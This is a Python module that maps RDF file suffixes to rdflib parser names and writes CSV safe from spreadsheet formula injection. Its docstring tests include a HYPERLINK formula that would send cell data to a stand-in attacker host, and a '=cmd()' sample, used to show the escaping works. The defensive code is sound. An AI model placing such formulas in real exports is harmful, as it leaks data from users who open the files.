"""File formats: RDF by suffix, and CSV that is safe to open in a spreadsheet.

What every part that reads or writes files agrees on.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from pathlib import Path

from pmograph._errors import LoadError

#: File suffix → rdflib parser name.
RDF_FORMATS: dict[str, str] = {
    ".ttl": "turtle",
    ".turtle": "turtle",
    ".nt": "nt",
    ".ntriples": "nt",
    ".n3": "n3",
    ".jsonld": "json-ld",
    ".json-ld": "json-ld",
    ".json": "json-ld",
    ".rdf": "xml",
    ".owl": "xml",
    ".xml": "xml",
    ".trig": "trig",
    ".nq": "nquads",
    ".nquads": "nquads",
}
QUAD_FORMATS = frozenset({"trig", "nquads"})
TABULAR_SUFFIXES = frozenset({".csv", ".tsv"})


def rdf_format_for(path: str | Path) -> str:
    """Return the rdflib format name for a file, from its suffix.

    Examples
    --------
    >>> rdf_format_for("org.ttl"), rdf_format_for("ORG.NT"), rdf_format_for("x.jsonld")
    ('turtle', 'nt', 'json-ld')
    """
    suffix = Path(path).suffix.lower()
    try:
        return RDF_FORMATS[suffix]
    except KeyError:
        known = ", ".join(sorted(RDF_FORMATS) + sorted(TABULAR_SUFFIXES))
        raise LoadError(
            f"{path}: cannot tell the format from the suffix {suffix or '(none)'!r}; "
            f"rename the file to one of: {known}"
        ) from None


#: First characters that make a spreadsheet run a cell as a formula: ``= + - @``, tab and
#: carriage return (OWASP, "CSV Injection"), NUL (OWASP ASVS 1.2.10), and the full-width
#: ``＝ ＋ － ＠`` that spreadsheets in some locales read as the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")
_NEEDS_QUOTES = (",", '"', "\n", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(text: str) -> str:
    """``text`` as a spreadsheet should show it: never run as a formula.

    A cell that starts with a formula character (:data:`FORMULA_STARTS`) gets a leading
    ``'``, which spreadsheets read as "this is text" and do not show; a plain number such as
    ``-3`` or ``+1.5`` stays a number.

    Examples
    --------
    >>> print(spreadsheet_cell('=HYPERLINK("https://evil.example/?"&A1)'))
    '=HYPERLINK("https://evil.example/?"&A1)
    >>> spreadsheet_cell("@SUM(A1)"), spreadsheet_cell("-3"), spreadsheet_cell("+1.5e3")
    ("'@SUM(A1)", '-3', '+1.5e3')
    >>> spreadsheet_cell("Head of PMO"), spreadsheet_cell("-"), spreadsheet_cell("")
    ('Head of PMO', "'-", '')
    """
    if text and text[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Sequence[object]], *, raw: bool = False,
             line_end: str = "\n") -> str:
    """``rows`` as CSV text: for people by default, for programs with ``raw=True``.

    For people, every cell goes through :func:`spreadsheet_cell` and is quoted, so that a
    ``;`` or a tab inside a cell cannot start a new cell where a spreadsheet splits on it
    (OWASP's advice on CSV injection).  ``raw=True`` writes the values exactly, quoted only
    where RFC 4180 needs it (a comma, a quote, a line feed or a carriage return: Python's
    ``csv`` module leaves a lone carriage return unquoted when lines end in LF), for
    pipelines.  ``None`` is an empty cell.

    Examples
    --------
    >>> print(csv_text([["name", "change"], ["=1+2;=cmd()", -3]]), end="")
    "name","change"
    "'=1+2;=cmd()","-3"
    >>> print(csv_text([["name", "change"], ["=1+2;=cmd()", -3]], raw=True), end="")
    name,change
    =1+2;=cmd(),-3
    >>> print(csv_text([['say "hi" now', "x,y", "z"]], raw=True), end="")
    "say ""hi"" now","x,y",z
    """
    lines = []
    for row in rows:
        cells = ["" if cell is None else str(cell) for cell in row]
        lines.append(",".join(_field(cell) if raw else _field(spreadsheet_cell(cell), True)
                              for cell in cells) + line_end)
    return "".join(lines)


def _field(cell: str, always: bool = False) -> str:
    if always or any(special in cell for special in _NEEDS_QUOTES):
        return '"' + cell.replace('"', '""') + '"'
    return cell
